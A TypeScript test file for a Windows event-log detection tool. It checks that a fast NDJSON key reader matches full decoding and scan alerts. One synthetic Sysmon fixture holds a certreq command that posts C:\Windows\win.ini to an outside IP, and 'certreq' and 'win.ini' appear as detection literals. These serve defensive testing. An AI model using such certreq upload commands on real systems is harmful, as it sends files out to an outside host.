/**
 * The byte-level NDJSON reader (src/formats/ndjsonBytes.ts): with the literal prefilter and kept correlation events,
 * an evtx_dump line without a literal is read by the key reader instead of JSON.parse. What it emits must be what
 * the full decoder reads from the same line, for every field correlation reads; anything unusual goes to the full
 * decoder with a named, counted reason; and a scan gives the same alerts as one decoding every line in full.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CONTEXT_EVENTS } from '../../src/correlate/index.js';
import { keyReaderFallbacks } from '../../src/formats/ndjsonBytes.js';
import { runScan } from '../../src/cli/scan.js';
import type { WinEvent } from '../../src/model/event.js';
import { decodeBytes } from './helpers.js';

const SYSMON = { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' };
const SECURITY = { Name: 'Microsoft-Windows-Security-Auditing', Guid: '54849625-5478-4994-A5BA-3E3B0328C30D' };
let record = 0;

function event(provider: typeof SYSMON, id: unknown, ms: number, host: string, data: Record<string, unknown>, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': provider }, EventID: id, Version: 5, Level: 4, Task: 1, Opcode: 0, Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: new Date(Date.UTC(2024, 4, 1) + ms).toISOString().replace('Z', '123Z') } }, EventRecordID: ++record,
        Correlation: null, Execution: { '#attributes': { ProcessID: 1988, ThreadID: 2760 } },
        Channel: provider === SYSMON ? 'Microsoft-Windows-Sysmon/Operational' : 'Security', Computer: host, Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
      ...extra,
    },
  };
}

const guid = (n: number): string => `0C2F7D31-${String(n).padStart(4, '0')}-6632-0000-000000000000`;
const start = (n: number, pid: number, ms: number, image: string, cmd: string, host = 'WS01.corp.example', more: Record<string, unknown> = {}): Record<string, unknown> =>
  event(SYSMON, 1, ms, host, {
    RuleName: '-', UtcTime: '2024-05-01 00:00:00.000', ProcessGuid: guid(n), ProcessId: pid, Image: image, Product: 'Microsoft® Windows®',
    OriginalFileName: 'x.exe', CommandLine: cmd, CurrentDirectory: 'C:\\Users\\erin\\', User: 'CORP\\erin', ParentProcessGuid: guid(0), ParentProcessId: 4212,
    ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\Explorer.EXE', ...more,
  });
const end = (n: number, pid: number, ms: number): Record<string, unknown> => event(SYSMON, 5, ms, 'WS01.corp.example', { RuleName: '-', ProcessGuid: guid(n), ProcessId: pid, Image: 'C:\\x.exe', User: 'CORP\\erin' });

/** Lines the key reader must read itself, and lines it must hand to the full decoder (with the reason it counts). */
function lines(): { text: string; unusual: string[] } {
  const out: string[] = [];
  const unusual: string[] = [];
  out.push(JSON.stringify(start(1, 100, 0, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c "echo \\"quoted\\" é ü 日本"')));
  out.push(JSON.stringify(start(2, 100, 50, 'C:\\Windows\\System32\\certreq.exe', 'certreq -Post -config https://198.51.100.7/upload C:\\Windows\\win.ini out.txt')));
  out.push(JSON.stringify(event(SYSMON, 3, 60, 'WS01.corp.example', { ProcessGuid: guid(2), ProcessId: 100, Image: 'C:\\Windows\\System32\\certreq.exe', Protocol: 'tcp', Initiated: true, SourceIp: '10.0.0.5', DestinationIp: '198.51.100.7', DestinationHostname: null, DestinationPort: 443 })));
  out.push(JSON.stringify(event(SYSMON, 22, 61, 'WS01.corp.example', { ProcessGuid: guid(2), ProcessId: '100', QueryName: 'cdn.example.net', QueryStatus: 0, QueryResults: '::ffff:198.51.100.7;', Image: 'C:\\a.exe' })));
  out.push(JSON.stringify(event(SYSMON, 11, 62, 'WS01.corp.example', { ProcessGuid: guid(2), ProcessId: 100, TargetFilename: 'C:\\Users\\Public\\out\\u00e9.txt', Image: 'C:\\a.exe' })));
  out.push(JSON.stringify(end(1, 100, 40)));
  // An escaped backslash before 'u' is no \u escape: read by the key reader.
  out.push(JSON.stringify(start(11, 108, 45, 'C:\\users\\u1.exe', 'C:\\users\\u1.exe /x')));
  out.push(JSON.stringify(end(2, 100, 90)));
  out.push(JSON.stringify(event(SECURITY, 4688, 70, 'WS02.corp.example', { SubjectUserName: 'WS$', SubjectDomainName: 'CORP', NewProcessId: '0x1f4', NewProcessName: 'C:\\Windows\\System32\\whoami.exe', ProcessId: '0x64', CommandLine: 'whoami /all', TargetUserName: 'erin', TargetDomainName: 'CORP', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe' })));
  out.push(JSON.stringify(event(SECURITY, 4689, 80, 'WS02.corp.example', { SubjectUserName: 'WS$', SubjectDomainName: 'CORP', ProcessId: '0x1f4', ProcessName: 'C:\\Windows\\System32\\whoami.exe', Status: '0x0' })));
  // A Sysmon event correlation does not read (skipped like an EVTX record), and another provider's event.
  out.push(JSON.stringify(event(SYSMON, 13, 90, 'WS01.corp.example', { ProcessGuid: guid(2), ProcessId: 100, TargetObject: 'HKLM\\x' })));
  out.push(JSON.stringify(event({ Name: 'Microsoft-Windows-Sysmon-Other', Guid: SYSMON.Guid }, 1, 90, 'WS01.corp.example', { ProcessId: 7 })));
  // Unusual: each one goes to the full decoder.
  const dup = JSON.stringify(start(3, 101, 100, 'C:\\a.exe', 'a')).replace('"ProcessId":101', '"ProcessId":101,"ProcessId":102');
  out.push(dup);
  unusual.push('duplicate field in EventData');
  out.push(JSON.stringify(start(4, 102, 110, 'C:\\b.exe', 'b', undefined, { Extra: { '#text': 'x' } })));
  unusual.push('object or array in or after EventData');
  out.push(JSON.stringify(start(5, 103, 120, 'C:\\c.exe', 'c')).replace('"EventData":{', '"EventData": {'));
  unusual.push('System not as evtx_dump writes it');
  out.push(JSON.stringify(event(SYSMON, { '#attributes': { Qualifiers: 0 }, '#text': 1 }, 130, 'WS01.corp.example', { ProcessGuid: guid(6), ProcessId: 104, Image: 'C:\\d.exe' })));
  unusual.push('System not as evtx_dump writes it');
  out.push(JSON.stringify(start(7, 105, 140, 'C:\\e.exe', 'e')).replace('"ProcessId":105', '"Process\\u0049d":105'));
  unusual.push('\\u escape in EventData');
  out.push(JSON.stringify(start(10, 107, 145, 'C:\\e.exe', 'e')).replace('"Image":', '"Image" :'));
  unusual.push('whitespace in EventData');
  out.push(JSON.stringify(start(8, 106, 150, 'C:\\f.exe', 'f', 'WS03.corp.exämple')));
  unusual.push('escaped or non-ASCII System text');
  out.push(JSON.stringify(event(SYSMON, 5, 160, 'WS01.corp.example', { ProcessGuid: guid(8), ProcessId: 106 }, { UserData: { X: { A: 1 } } })));
  unusual.push('object or array in or after EventData');
  out.push(`${JSON.stringify(end(3, 101, 170))}\r`);
  out.push('');
  out.push(JSON.stringify(end(4, 102, 180)));
  return { text: `\ufeff${out.join('\n')}\n`, unusual };
}

const KEEP = CONTEXT_EVENTS.map((k) => ({ provider: k.provider, eventIds: [...k.eventIds], fields: k.fields }));
const LITERALS = ['certreq', 'win.ini'];

/** The parts of an event correlation reads (KeepEvent.fields), to compare a partial event with a full one. */
function kept(ev: WinEvent): unknown {
  const fields = KEEP.find((k) => k.provider === ev.system.provider)?.fields ?? [];
  const data: Record<string, unknown> = {};
  for (const f of fields) if (ev.data[f] !== undefined) data[f] = ev.data[f];
  const s = ev.system;
  return { provider: s.provider, eventId: s.eventId, timeCreated: s.timeCreated, channel: s.channel, computer: s.computer, recordId: s.recordId, data, origin: ev.origin };
}

test('the key reader emits what the full decoder reads, for every field correlation reads; unusual lines fall back by name', async () => {
  const { text, unusual } = lines();
  const full = await decodeBytes(text, 'mem');
  keyReaderFallbacks.clear();
  const fast = await decodeBytes(text, 'mem', { prefilterLiterals: LITERALS, keepEvents: KEEP });
  assert.deepEqual(fast.errors, full.errors);
  // Every event the fast path emits is one the full decode has, at the same line and index, with the same kept fields.
  const byLine = new Map(full.events.map((e) => [e.origin.line, e]));
  let partial = 0;
  for (const ev of fast.events) {
    const whole = byLine.get(ev.origin.line);
    assert.ok(whole, `line ${ev.origin.line}: not an event of the full decode`);
    assert.deepEqual(kept(ev), kept(whole), `line ${ev.origin.line}`);
    if (ev.system.level === undefined && whole.system.level !== undefined) partial++; // the key reader reads no Level
  }
  assert.ok(partial >= 8, `events read by the key reader: ${partial}`);
  // Skipped: only the events correlation does not read.
  const emitted = new Set(fast.events.map((e) => e.origin.line));
  for (const ev of full.events) {
    if (emitted.has(ev.origin.line)) continue;
    const keptEvent = KEEP.some((k) => k.provider === ev.system.provider && k.eventIds.includes(ev.system.eventId));
    assert.ok(!keptEvent, `line ${ev.origin.line} (${ev.system.provider} ${ev.system.eventId}) was dropped`);
  }
  const expected = new Map<string, number>();
  for (const reason of unusual) expected.set(reason, (expected.get(reason) ?? 0) + 1);
  assert.deepEqual(Object.fromEntries([...keyReaderFallbacks].sort()), Object.fromEntries([...expected].sort()));
});

test('chunk boundaries anywhere (a line split mid-character) give the same events', async () => {
  const { text } = lines();
  const options = { prefilterLiterals: LITERALS, keepEvents: KEEP };
  const whole = await decodeBytes(text, 'mem', options);
  for (const size of [1, 7, 333, 4096]) {
    const split = await decodeBytes(text, 'mem', options, size);
    assert.deepEqual(split.items, whole.items, `chunks of ${size} bytes`);
  }
});

test('a line longer than the long-line limit is decoded whole', async () => {
  const long = JSON.stringify(start(9, 200, 0, 'C:\\certreq.exe', `certreq ${'A'.repeat(1_200_000)}`));
  const text = `${JSON.stringify(end(9, 200, 10))}\n${long}\n${JSON.stringify(end(9, 200, 20))}\n`;
  const options = { prefilterLiterals: LITERALS, keepEvents: KEEP };
  const fast = await decodeBytes(text, 'mem', options, 65536);
  const full = await decodeBytes(text, 'mem');
  assert.equal(fast.errors.length, 0);
  assert.equal(fast.events.length, 3);
  assert.deepEqual(fast.events[1], full.events[1]);
});

test('scan: the default (key reader) gives the alerts a full decode gives', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'procwatch-ndjson-bytes-'));
  try {
    const input = join(dir, 'events.jsonl');
    writeFileSync(input, lines().text);
    const scan = async (name: string, extra: Record<string, unknown>): Promise<string> => {
      const output = join(dir, name);
      await runScan([input], { format: 'jsonl', output, rules: [], builtin: true, prefilter: true, progress: false, quiet: true, ...extra });
      return readFileSync(output, 'utf8');
    };
    const full = await scan('full', { prefilter: false });
    assert.ok(full.includes('"process_tree"') && full.includes('"evidence"'), 'alerts with context');
    assert.equal(await scan('default', {}), full);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('key-reader events are marked contextOnly, and no rule matches them (scan skips the rule engine for them)', async () => {
  const { createPipeline } = await import('../../src/pipeline.js');
  const pipeline = await createPipeline({ rules: { paths: [], builtin: true } });
  const literals = pipeline.engine.prefilterLiterals();
  assert.ok(literals !== null, 'the built-in rules give a prefilter');
  const decoded = await decodeBytes(lines().text, 'mem', { prefilterLiterals: literals, keepEvents: KEEP });
  let contextOnly = 0;
  let matchedFull = 0;
  for (const item of decoded.items) {
    if (!('event' in item)) continue;
    const partial = item.event.system.level === undefined; // the key reader reads no Level
    assert.equal(item.contextOnly === true, partial, `line ${item.event.origin.line}`);
    const detections = pipeline.engine.match(item.event);
    if (item.contextOnly) {
      contextOnly++;
      assert.deepEqual(detections, [], `line ${item.event.origin.line}: a rule matched a contextOnly event`);
    } else if (detections.length > 0) matchedFull++;
  }
  assert.ok(contextOnly >= 8, `contextOnly events: ${contextOnly}`);
  assert.ok(matchedFull >= 1, 'the certreq line is decoded in full and matches');
});
